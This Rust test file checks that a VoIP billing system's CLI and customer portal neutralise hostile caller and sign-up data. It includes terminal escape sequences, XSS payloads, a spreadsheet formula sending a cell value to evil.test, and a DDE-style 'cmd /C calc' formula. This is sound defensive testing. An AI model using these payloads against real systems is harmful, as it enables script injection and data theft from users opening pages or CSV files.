//! Hostile input from outsiders, end to end with the real binaries: caller numbers and other CDR
//! fields come from the network, customer and contact names from the portal's sign-up, brand
//! fields and destination names are shown to every customer. HTML and script in them never run
//! in the portal (a headless chromium looks), spreadsheet formulas in CSV downloads are defused,
//! and control characters never reach the admin's terminal raw (the CLI's plain output is read
//! byte by byte).
#![cfg_attr(test, allow(clippy::unwrap_used, clippy::expect_used))]

use std::path::{Path, PathBuf};

use portico_tests::browser::{Browser, Viewport};
use portico_tests::portal::{LOGIN_FORM, customer_id, log_in};
use portico_tests::{Cli, Daemon};

const PASSWORD: &str = "correct horse battery staple";

/// One Asterisk `cdr_csv` line (the 17 fields of Master.csv), `minutes_ago` before now, with
/// the fields that come from callers and switches given as they are.
fn asterisk_line(
    account: &str,
    src: &str,
    dst: &str,
    clid: &str,
    n: u32,
    minutes_ago: i64,
) -> String {
    let start = time::OffsetDateTime::now_utc().unix_timestamp() - minutes_ago * 60;
    let t = |s: i64| {
        time::OffsetDateTime::from_unix_timestamp(s)
            .unwrap()
            .format(time::macros::format_description!(
                "[year]-[month]-[day] [hour]:[minute]:[second]"
            ))
            .unwrap()
    };
    let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let fields = [
        q(account),
        q(src),
        q(dst),
        q("from-internal"),
        q(clid),
        q(&format!("SIP/a-{n}")),
        q(&format!("SIP/b-{n}")),
        q("Dial"),
        q("SIP/trunk"),
        q(&t(start)),
        q(&t(start + 2)),
        q(&t(start + 62)),
        "62".to_string(),
        "60".to_string(),
        q("ANSWERED"),
        q("DOCUMENTATION"),
        q(&format!("{start}.{n}")),
    ];
    format!("{}\n", fields.join(","))
}

/// Imports `rates` as rate card "Std" (USD), adds customer `name` on `domain` with account
/// code `acct-acme`, routes it to "Std" and returns its id.
fn rated_customer(cli: &Cli, rates: &Path, name: &str, domain: &str) -> String {
    cli.json([
        "ratecard",
        "import",
        "Std",
        rates.to_str().unwrap(),
        "--currency",
        "USD",
    ]);
    let id = customer_id(&cli.json([
        "customer",
        "add",
        "--name",
        name,
        "--currency",
        "USD",
        "--domain",
        domain,
        "--account-codes",
        "acct-acme",
    ]));
    cli.json(["route", "add", &id, "Std"]);
    id
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

// ---------------------------------------------------------------------------------------------
// The admin's terminal

/// An OSC title change ending in a bell, a screen clear, C1's CSI, a carriage return that would
/// let the rest overwrite the line, DEL, and a bidi override.
const TERMINAL_ATTACK: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\rfake\u{7f}\u{202e}";

/// Where `text` holds a control character a terminal acts on: a C0 control other than `\n` and
/// `\t`, DEL, or a C1 control (U+0080 to U+009F).
fn raw_controls(text: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    for (i, &b) in text.iter().enumerate() {
        if (b < 0x20 && b != b'\n' && b != b'\t') || b == 0x7f {
            found.push(format!("byte {b:#04x} at {i}"));
        }
    }
    for (i, c) in String::from_utf8_lossy(text).char_indices() {
        if ('\u{80}'..='\u{9f}').contains(&c) {
            found.push(format!("C1 control U+{:04X} at {i}", u32::from(c)));
        }
    }
    found
}

/// Runs a plain (not `--json`) command, asserts it succeeded, and that neither its stdout nor
/// its stderr holds a raw control character; returns stdout.
fn plain(cli: &Cli, args: &[&str]) -> String {
    let run = cli.run(args);
    assert_eq!(run.code, 0, "{run}");
    for (stream, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        let found = raw_controls(text.as_bytes());
        assert!(
            found.is_empty(),
            "`portico {}` wrote control characters to {stream}: {found:?}\n{text:?}",
            args.join(" ")
        );
    }
    run.stdout
}

#[test]
fn control_characters_in_cdrs_never_reach_the_admins_terminal_raw() {
    let daemon = Daemon::start();
    let cli = daemon.cli();
    let dir = daemon.dir();
    cli.json([
        "domain",
        "add",
        "evil.test",
        "--currencies",
        "USD",
        "--brand-name",
        "Evil <b>Voice</b>",
        "--footer",
        "\"><script>alert(1)</script>",
    ]);
    let rates = write(
        dir,
        "rates.csv",
        "prefix,name,rate\n44,\"United Kingdom <img src=x onerror=alert(1)>\",0.01\n",
    );
    let id = rated_customer(&cli, &rates, "Acme \"><svg onload=alert(1)>", "evil.test");

    let attack = TERMINAL_ATTACK;
    let mut master = String::new();
    // Assigned and rated; every caller-controlled field hostile.
    master.push_str(&asterisk_line(
        "acct-acme",
        &format!("+4420{attack}"),
        &format!("4420794{attack}"),
        &format!("\"{attack}\" <100>"),
        1,
        30,
    ));
    // Unassigned: the account code itself is hostile.
    master.push_str(&asterisk_line(
        &format!("acct{attack}"),
        attack,
        "442079460002",
        "",
        2,
        20,
    ));
    // Not a CDR at all: quarantined, and its reason quotes the bad value.
    master.push_str(&format!(
        "\"acct-acme\",\"1\",\"2\",\"x\",\"\",\"a\",\"b\",\"Dial\",\"\",\"{attack}\",\"\",\"\",1,1,\"ANSWERED\",\"DOCUMENTATION\",\"q.1\"\n"
    ));
    let master = write(dir, "Master.csv", &master);
    let master = master.to_str().unwrap();

    let report = plain(&cli, &["cdr", "import", "--format", "asterisk-csv", master]);
    assert!(report.contains("quarantined"), "{report}");

    // The JSON stays exact: the strings read back as they were stored.
    let page = cli.json(["cdr", "list", &id]);
    let cdr = &page["cdrs"][0];
    assert_eq!(cdr["source_number"], format!("+4420{attack}"), "{page}");

    let listed = plain(&cli, &["cdr", "list", &id]);
    // What was there shows as escapes, so the admin sees it.
    assert!(listed.contains(r"+4420\u{1b}]0;owned\u{7}"), "{listed}");
    plain(&cli, &["cdr", "list", "unassigned"]);
    // `--csv` into a pipe or a file is data for scripts, exact (to a terminal it is escaped).
    let csv = cli.ok(["cdr", "list", &id, "--csv"]);
    assert!(csv.contains(&format!("+4420{attack}")), "{csv:?}");
    let unassigned = plain(&cli, &["cdr", "unassigned"]);
    assert!(unassigned.contains(r"acct\u{1b}]0;owned"), "{unassigned}");
    plain(&cli, &["cdr", "quarantine"]);
    plain(&cli, &["cdr", "status"]);
    plain(&cli, &["customer", "list"]);
    plain(&cli, &["customer", "show", &id]);
    plain(&cli, &["domain", "list"]);
    plain(&cli, &["domain", "show", "evil.test"]);
    plain(&cli, &["ratecard", "show", "Std"]);
    plain(&cli, &["report", "breakout", &id]);

    // An error that quotes the hostile value is escaped on stderr too.
    let run = cli.run(["cdr", "assign", &format!("acct{attack}"), "999999"]);
    assert_ne!(run.code, 0, "{run}");
    assert!(
        raw_controls(run.stderr.as_bytes()).is_empty(),
        "{:?}",
        run.stderr
    );
}

// ---------------------------------------------------------------------------------------------
// The portal

/// Sessions are `__Host-` cookies, which a browser keeps over plain HTTP only for `*.localhost`.
const HOST: &str = "hostile.localhost";
/// A script that would mark the page if it ran.
const SCRIPT: &str = "<script>window.pwned=1;document.title='owned'</script>";
/// An attribute break-out with an event handler.
const IMG: &str = "\"><img src=x onerror=\"window.pwned=1;document.title='owned'\">";
/// Another, for names shown in attributes (`alt`, `title`).
const SVG: &str = "'><svg onload=window.pwned=1>";
/// A formula a spreadsheet would run when the CSV is opened.
const FORMULA: &str = "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")";

#[test]
fn html_in_cdrs_names_and_brand_fields_never_runs_in_the_portal() {
    let daemon = Daemon::start();
    let cli = daemon.cli();
    let dir = daemon.dir();
    cli.json([
        "domain",
        "add",
        HOST,
        "--currencies",
        "USD",
        "--brand-name",
        &format!("Brand{SVG}"),
        "--footer",
        &format!("Footer{SCRIPT}{IMG}"),
    ]);
    let rates = write(
        dir,
        "rates.csv",
        &format!(
            "prefix,name,rate\n44,\"{}\",0.01\n33,\"{}\",0.02\n",
            format!("UK{IMG}").replace('"', "\"\""),
            FORMULA.replace('"', "\"\""),
        ),
    );
    let id = rated_customer(&cli, &rates, &format!("Acme{SCRIPT}"), HOST);
    cli.json([
        "contact",
        "add",
        &id,
        "--email",
        "ada@acme.test",
        "--name",
        &format!("Ada{IMG}"),
        "--password",
        PASSWORD,
    ]);
    let master: String = [
        asterisk_line("acct-acme", SCRIPT, "442079460001", IMG, 1, 40),
        asterisk_line("acct-acme", FORMULA, &format!("4420{IMG}"), SCRIPT, 2, 30),
        asterisk_line(
            "acct-acme",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "3312345678",
            "",
            3,
            20,
        ),
        asterisk_line("acct-acme", "-2+3+cmd", &format!("44{SVG}"), "", 4, 10),
    ]
    .concat();
    let master = write(dir, "Master.csv", &master);
    let report = cli.json([
        "cdr",
        "import",
        "--format",
        "asterisk-csv",
        master.to_str().unwrap(),
    ]);
    assert_eq!(report["imported"], 4, "{report}");

    let b = Browser::start(Viewport::Laptop);
    let url = |path: &str| format!("http://{HOST}:{}{path}", daemon.http_port());
    b.open(&url("/login"));
    log_in(&b, "ada@acme.test", PASSWORD);
    assert!(
        !b.exists(LOGIN_FORM),
        "could not log in:\n{}",
        b.text("main")
    );

    let not_pwned = |page: &str| {
        // Event handlers of images that fail to load run a moment later: wait for the page's
        // images to settle first.
        b.wait_until("images to load or fail", || {
            b.eval("return [...document.images].every(i => i.complete)")
                .as_bool()
                .unwrap_or(false)
        });
        assert_eq!(
            b.eval("return window.pwned === undefined"),
            serde_json::json!(true),
            "{page}: the payload ran"
        );
        assert_ne!(b.title(), "owned", "{page}: the payload ran");
        assert_eq!(
            b.count("img[src=x], svg[onload], script:not([src])"),
            0,
            "{page}: markup from the data became elements"
        );
        assert!(
            b.csp_violations().is_empty(),
            "{page}: the data reached the page as script (blocked by CSP): {:?}",
            b.csp_violations()
        );
        let source = b.source();
        assert!(
            !source.contains("<script>window.pwned") && !source.contains("<img src=\"x\""),
            "{page}: unescaped markup in the page:\n{source}"
        );
    };

    // The dashboard's latest calls.
    b.open(&url("/"));
    b.wait_for("#latest-calls");
    not_pwned("/");
    let latest = b.text("#latest-calls");
    assert!(latest.contains(&format!("4420{IMG}")), "{latest}");
    assert!(latest.contains(&format!("UK{IMG}")), "{latest}");
    // The brand name, the footer and the names show as text.
    assert!(b.text(".site-footer-text").contains(SCRIPT));
    // (The account menu is closed: its text is read from the DOM.)
    let menu = b.prop(".account-menu", "textContent");
    assert!(
        menu.as_str()
            .unwrap_or_default()
            .contains(&format!("Acme{SCRIPT}")),
        "{menu}"
    );
    assert!(
        menu.as_str()
            .unwrap_or_default()
            .contains(&format!("Ada{IMG}")),
        "{menu}"
    );

    // The CDR page: sources and destinations as text.
    b.open(&url("/cdr"));
    b.wait_for("#cdr-table");
    not_pwned("/cdr");
    let table = b.text("#cdr-table");
    for shown in [SCRIPT, FORMULA, &format!("4420{IMG}") as &str] {
        assert!(table.contains(shown), "{shown} not in:\n{table}");
    }

    // The breakout: destination names from the rate card.
    b.open(&url("/breakout"));
    b.wait_for("#breakout-table");
    not_pwned("/breakout");
    let breakout = b.text("#breakout-table");
    assert!(breakout.contains(&format!("UK{IMG}")), "{breakout}");
    assert!(breakout.contains(FORMULA), "{breakout}");

    // The downloads: text, not a page; formulas defused, everything else exact.
    b.open(&url("/cdr"));
    b.wait_for("#cdr-csv");
    let href = b.attr("#cdr-csv", "href").unwrap();
    let csv = b.fetch("GET", &href, None);
    assert_eq!(csv.status, 200, "{}", csv.body);
    assert!(
        csv.header("content-type")
            .is_some_and(|t| t.starts_with("text/csv")),
        "{:?}",
        csv.headers
    );
    assert_eq!(csv.header("x-content-type-options"), Some("nosniff"));
    let cells = csv_cells(&csv.body);
    assert!(cells.contains(&SCRIPT.to_string()), "{}", csv.body);
    assert!(cells.contains(&format!("'{FORMULA}")), "{}", csv.body);
    assert!(
        cells.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()),
        "{}",
        csv.body
    );
    assert!(cells.contains(&"'-2+3+cmd".to_string()), "{}", csv.body);
    assert_no_formula(&cells, &csv.body);

    b.open(&url("/breakout"));
    b.wait_for("#breakout-csv");
    let href = b.attr("#breakout-csv", "href").unwrap();
    let csv = b.fetch("GET", &href, None);
    assert_eq!(csv.status, 200, "{}", csv.body);
    let cells = csv_cells(&csv.body);
    assert!(cells.contains(&format!("'{FORMULA}")), "{}", csv.body);
    assert!(cells.contains(&format!("UK{IMG}")), "{}", csv.body);
    assert_no_formula(&cells, &csv.body);
}

/// The cells of a CSV text (RFC 4180 quoting).
fn csv_cells(text: &str) -> Vec<String> {
    let mut cells = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',' | '\n') => cells.push(std::mem::take(&mut cell)),
            (false, '\r') => {}
            (false, c) => cell.push(c),
        }
    }
    if !cell.is_empty() {
        cells.push(cell);
    }
    cells
}

/// No cell starts as a formula: `=`, `+`, `-`, `@`, tab or CR first (a signed number alone is
/// a number).
fn assert_no_formula(cells: &[String], body: &str) {
    for cell in cells {
        let risky = match cell.as_bytes().first() {
            Some(b'=' | b'@' | b'\t' | b'\r') => true,
            Some(b'+' | b'-') => !cell[1..].chars().all(|c| c.is_ascii_digit() || c == '.'),
            _ => false,
        };
        assert!(!risky, "formula cell {cell:?} in:\n{body}");
    }
}
